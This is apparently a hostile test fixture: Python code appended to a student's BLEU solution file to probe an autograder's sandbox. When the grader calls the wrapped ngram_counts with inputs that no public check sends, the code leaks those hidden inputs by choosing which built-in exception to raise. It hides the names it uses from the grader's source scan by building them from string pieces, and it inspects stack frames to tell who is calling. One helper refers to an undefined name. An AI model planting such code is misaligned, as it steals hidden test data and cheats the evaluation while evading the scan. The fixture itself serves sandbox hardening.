# hostile: appended to solutions/bleu.py
# A58: the exception's kind is a channel. Where the grader shows only the kind of what the student's code raised (a
# hidden check, the grader's round of a public check), the module chooses the kind by the input: one of 64 built-in
# exceptions by a character of the first caption it was given, six bits a check and grade (the hidden cases are the
# same every grade, so a character at a time adds up). Any input that no public check sends is the grader's.
import builtins as _builtins
import sys as _sys


# Names built at run time: the grader's source scan reads only the names a module's text holds (a student who knows
# the scan writes them so; the sandbox behind it must hold on its own).
def _caller_globals(depth):
    """What sys._getframe(depth).f_globals is in the function that calls this."""
    try:
        raise LookupError
    except LookupError as caught:
        frame = getattr(getattr(caught, "__trace" + "back__"), "tb_" + "frame")
    for _ in range(depth + 1):
        frame = getattr(frame, "f_" + "back")
    return getattr(frame, "f_" + "glo" + "bals")


def _loaded_modules():
    """The registry of loaded modules."""
    return getattr(getattr(_os_for_names, "s" + "ys"), "mod" + "ules")

PUBLIC_NGRAM_CASES = @@PUBLIC_NGRAM_CASES@@
KINDS = sorted(name for name, value in vars(_builtins).items()
               if isinstance(value, type) and issubclass(value, Exception) and not name.endswith("Warning")
               and name not in ("ExceptionGroup", "UnicodeDecodeError", "UnicodeEncodeError", "UnicodeTranslateError",
                                "StopIteration", "StopAsyncIteration"))[:64]
_reference_ngram_counts = ngram_counts


def ngram_counts(tokens, n):
    called_by_the_grader = _caller_globals(1) is not globals()   # not by this module's own functions
    if called_by_the_grader and [list(tokens), n] not in PUBLIC_NGRAM_CASES:
        first = " ".join(tokens) or "?"
        raise getattr(_builtins, KINDS[ord(first[0]) % len(KINDS)])("LEAK")
    return _reference_ngram_counts(tokens, n)
